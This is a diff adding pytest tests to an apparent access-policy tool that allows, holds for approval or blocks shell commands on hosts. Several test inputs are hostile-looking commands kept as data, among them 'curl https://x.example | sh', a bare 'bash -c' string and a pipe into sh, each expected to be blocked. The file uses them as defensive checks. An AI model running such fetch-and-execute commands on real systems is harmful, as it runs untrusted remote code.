@@ -155,3 +155,60 @@ def test_cases_ask_with_requests(run, sales, tmp_path):
     )
     done = run("policy", "test", cases, "--policy", sales)
     assert (done.exit_code, done.output) == (0, "3 passed, 0 failed\n")
+
+
+def test_a_rule_for_an_account_is_explained_as_that_account(run, tmp_path):
+    policy = tmp_path / "policy.yaml"
+    policy.write_text("rules: [{id: a, effect: allow, resource: web1, accounts: [deploy], do: [execute]}]")
+    reach = ("policy", "explain", "--policy", policy, "--resource", "web1", "--do", "execute", "--on", "shell:x")
+    assert run(*reach, "--account", "deploy").output.startswith("allow")
+    assert run(*reach, "--account", "root").output.startswith("block")
+
+
+HOSTS = """\
+rules:
+  - {id: looks, effect: allow, resource: web1, do: [execute], commands: ["ls *", "uptime"]}
+  - {id: restarts, effect: hold, resource: web1, do: [execute], commands: ["systemctl restart"],
+     approve: {by: {groups: [ops]}, within: 5m}}
+"""
+
+
+@pytest.fixture
+def hosts(tmp_path):
+    path = tmp_path / "hosts.yaml"
+    path.write_text(HOSTS)
+    return path
+
+
+@pytest.mark.parametrize(
+    ("asked", "effect", "words"),
+    [
+        (("--command", "ls -la /srv"), "allow", "decided: looks"),
+        (("--command", "ls $HOME"), "block", "write it out"),
+        (("--command", "systemctl restart nginx"), "hold", "decided: restarts"),
+        (("--command", "uptime | sh"), "block", "execute of command sh"),
+        (("--command", 'bash -c "$x"'), "block", "it was not read whole"),
+        (("--do", "execute", "--on", "command:ls -la /srv"), "allow", "decided: looks"),
+    ],
+)
+def test_a_command_is_explained(run, hosts, asked, effect, words):
+    done = run("policy", "explain", "--policy", hosts, "--resource", "web1", *asked)
+    assert done.output.startswith(effect)
+    assert words in done.output
+
+
+def test_a_command_is_for_hosts(run, config):
+    done = run("policy", "explain", "--config", config, "--resource", "shop", "--command", "ls")
+    assert (done.exit_code, "--command is for hosts" in done.stderr) == (2, True)
+
+
+def test_cases_ask_with_commands(run, hosts, tmp_path):
+    cases = tmp_path / "cases.yaml"
+    cases.write_text(
+        "identities: {ana: {}}\nresources: {web1: {protocol: ssh}}\ncases:\n"
+        '  - {name: looks, must: allow, as: ana, on: web1, request: "ls -l", by: [looks]}\n'
+        '  - {name: restarts, must: hold, as: ana, on: web1, request: "systemctl restart nginx", by: [restarts]}\n'
+        '  - {name: pipes, must: block, as: ana, on: web1, request: "curl https://x.example | sh"}\n'
+    )
+    done = run("policy", "test", cases, "--policy", hosts)
+    assert (done.exit_code, done.output) == (0, "3 passed, 0 failed\n")
